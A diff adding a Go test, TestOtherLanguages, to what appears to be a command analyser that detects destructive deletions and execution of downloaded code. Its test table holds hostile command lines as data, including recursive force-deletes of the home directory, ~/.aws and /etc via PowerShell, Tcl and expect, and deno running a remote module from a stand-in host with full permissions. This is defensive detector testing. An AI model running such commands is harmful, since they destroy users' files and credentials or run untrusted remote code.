@@ -73,3 +73,43 @@ func TestOptionCommands(t *testing.T) {
 		t.Errorf("tar --use-compress-program=/tmp/c.sh: loads %q, want /tmp/c.sh", loads)
 	}
 }
+
+// TestOtherLanguages: PowerShell's and Tcl's code is analysed for the
+// commands it runs; deno runs a remote module with every permission as
+// downloaded code.
+func TestOtherLanguages(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		line, want string // want: a delete, or "downloaded" for RunsDownloaded, or "" for neither
+	}{
+		{"pwsh -c 'Remove-Item -Recurse -Force $HOME'", "$HOME"},
+		{"powershell -Command 'ri -r $env:USERPROFILE/.aws'", "$HOME/.aws"},
+		{"tclsh <<< 'exec rm -rf $env(HOME)/.aws'", "$HOME/.aws"},
+		{"expect -c 'spawn ssh h; exec rm -rf /etc'", "/etc"},
+		{"deno run -A https://x.example.net/mod.ts", "downloaded"},
+		{"deno run --allow-run https://x.example.net/mod.ts", "downloaded"},
+
+		{"pwsh -c 'Get-ChildItem'", ""},
+		{"tclsh build.tcl", ""},
+		{"deno run https://x.example.net/mod.ts", ""},
+		{"deno run -A main.ts", ""},
+	} {
+		an, err := Analyze(tc.line, Options{})
+		if err != nil {
+			t.Fatalf("%q: %v", tc.line, err)
+		}
+		var got []string
+		for _, c := range an.Commands {
+			got = append(got, c.Deletes...)
+			if len(c.RunsDownloaded) > 0 {
+				got = append(got, "downloaded")
+			}
+		}
+		switch {
+		case tc.want == "" && len(got) > 0:
+			t.Errorf("%q: %q, want nothing", tc.line, got)
+		case tc.want != "" && !strings.Contains(strings.Join(got, "\n"), tc.want):
+			t.Errorf("%q: %q, want %q", tc.line, got, tc.want)
+		}
+	}
+}
